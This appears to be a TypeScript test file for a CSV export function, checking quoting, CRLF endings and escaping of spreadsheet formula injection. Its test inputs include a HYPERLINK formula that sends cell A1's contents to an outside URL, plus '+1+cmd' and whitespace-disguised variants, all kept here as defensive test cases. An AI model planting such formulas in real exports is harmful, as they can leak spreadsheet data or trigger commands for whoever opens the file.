import { parse } from '@offprint/digest'
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { csv } from '../src/csv.ts'

it('is rows that end in CRLF, with quotes where a cell needs them', () => {
  expect(
    csv([
      ['a', 'b, c'],
      ['say "so"', '1\n2'],
    ]),
  ).toBe('a,"b, c"\r\n"say ""so""","1\n2"\r\n')
})

it.each([
  '=HYPERLINK("https://example.org/?"&A1, "Looms")',
  '@SUM(1)',
  '+1+cmd',
  '-2+3',
  '-by-side looms',
  ' =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n1',
  '\0=1+1',
  '＝1+1',
  "'=1+1",
])('has no cell that a spreadsheet would take for a formula: %j', (cell) => {
  const line = csv([[cell]]).trimEnd()
  expect(line.replace(/^"/, '')).toMatch(/^'/)
})

it.each(['-5', '+3', '-1.5e-7', '', "'Tis weaving time", 'a=b', '2025-03-13', '–5 °C'])(
  'leaves numbers and other text as they are: %j',
  (cell) => {
    expect(csv([[cell]])).toBe(`${cell}\r\n`)
  },
)

const abstract = 'Looms rest at night, and nobody weaves until morning, as we found by counting. '
  .repeat(5)
  .trim()

it('gives texts back as they were to who reads it as a table of papers', async () => {
  const beginning = fc.string({ unit: fc.constantFrom(..."=+-@'＝ ,1A") }).map((text) => text.trim())
  await fc.assert(
    fc.asyncProperty(fc.array(beginning, { minLength: 1, maxLength: 5 }), async (beginnings) => {
      const abstracts = beginnings.map((text) => `${text}${abstract}`.replace(/\s+/g, ' '))
      const value = csv([
        ['title', 'doi', 'abstract'],
        ...abstracts.map((abstract, index) => [`Looms ${index}`, `10.1000/${index}`, abstract]),
      ])
      const { papers } = await parse({ path: 'papers.csv', value })
      expect(papers.map(({ abstract }) => abstract)).toEqual(abstracts)
    }),
    { seed: 5 },
  )
})
